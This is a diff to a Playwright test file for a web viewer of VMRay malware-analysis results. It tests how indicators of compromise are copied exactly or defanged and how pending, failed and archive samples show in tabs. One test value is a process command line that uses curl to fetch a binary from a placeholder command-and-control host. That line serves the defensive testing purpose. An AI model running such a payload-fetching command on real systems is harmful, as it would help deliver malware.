@@ -42,6 +42,18 @@ def iocs_of(page: Page, label: str) -> Locator:
     return page.locator("details", has=page.locator("summary", has_text=label))
 
 
+def taken(page: Page, button: Locator) -> str:
+    """What a button puts on the clipboard, taken from the copy event: a clipboard may change line ends."""
+    page.evaluate(
+        """() => window.addEventListener("copy", (event) => {
+            window.taken = event.clipboardData.getData("text/plain");
+        }, { once: true })"""
+    )
+    button.click()
+    text: str = page.evaluate("window.taken")
+    return text
+
+
 def copied(page: Page) -> str:
     text: str = page.evaluate("navigator.clipboard.readText()")
     return text
@@ -142,11 +154,15 @@ def test_file_hashes_are_read_from_their_list_and_emails_by_their_sender(show: S
 @pytest.mark.parametrize(
     ("label", "exact", "defanged"),
     [
-        ("URLs", "https://c2.invalid:8443/a.b?q=1.2", "hxxps://c2[.]invalid:8443/a.b?q=1.2"),
+        ("URLs", "https://c2.invalid:8443/a.b?q=1.2", "hxxps://c2[.]invalid:8443/a[.]b?q=1[.]2"),
         ("Domains", "c2.invalid", "c2[.]invalid"),
-        ("IP addresses", "198.51.100.7\n2001:db8::7", "198[.]51[.]100[.]7\n2001[:]db8[:][:]7"),
+        ("IP addresses", "198.51.100.7\n2001:db8::7", "198[.]51[.]100[.]7\n2001:db8::7"),
         ("E-mails", "eve@mail.invalid", "eve[@]mail[.]invalid"),
-        ("Processes", "cmd.exe /c curl http://c2.invalid/x.bin", "cmd.exe /c curl hxxp://c2[.]invalid/x.bin"),
+        (
+            "Processes",
+            "cmd.exe /c curl http://c2.invalid/x.bin",
+            "cmd.exe /c curl hxxp://c2[.]invalid/x[.]bin",
+        ),
     ],
 )
 def test_iocs_are_copied_exactly_or_defanged(show: Show, label: str, exact: str, defanged: str) -> None:
@@ -252,12 +268,29 @@ def test_pending_and_failed_files_are_shown_as_such(show: Show) -> None:
         file_row("/files/bad.bin", "error", error="VMRay answered 502 after 4 tries", submission_id=None),
     )
     expect(page.locator("main")).to_contain_text("3 files: 1 malicious, 1 pending, 1 failed")
+    expect(page.get_by_role("tab")).to_have_text(
+        ["✕Maliciousinvoice.exe", "…Pendingslow.doc", "⚠Failedbad.bin"]
+    )
     page.get_by_role("tab", name="slow.doc").click()
     expect(page.locator(".head")).to_contain_text(
         "Pending/files/slow.docThe analysis is not finished (submission 6230)."
     )
     page.get_by_role("tab", name="bad.bin").click()
     expect(page.locator(".head")).to_contain_text("Failed/files/bad.binVMRay answered 502 after 4 tries")
+
+
+def test_the_samples_of_an_archive_are_told_apart(show: Show) -> None:
+    """One path, a row for each sample; one that failed keeps the verdict that VMRay did give."""
+    inner = file_row("/files/a.zip", data=sample(sample_filename="inner.exe"))
+    broken = file_row(
+        "/files/a.zip", "error", error="1 of 2 jobs failed", verdict="suspicious", data=sample()
+    )
+    page = upload(show, inner, broken)
+    expect(page.get_by_role("tab")).to_have_text(["✕Maliciousa.zip: inner.exe", "⚠Faileda.zip: invoice.exe"])
+    page.get_by_role("tab", name="invoice.exe").click()
+    expect(page.locator(".head")).to_contain_text(
+        "1 of 2 jobs failed (submission 6230)Verdict so far: !Suspicious"
+    )
 
 
 def test_an_upload_without_the_list_of_files_is_read_by_its_data(show: Show) -> None:
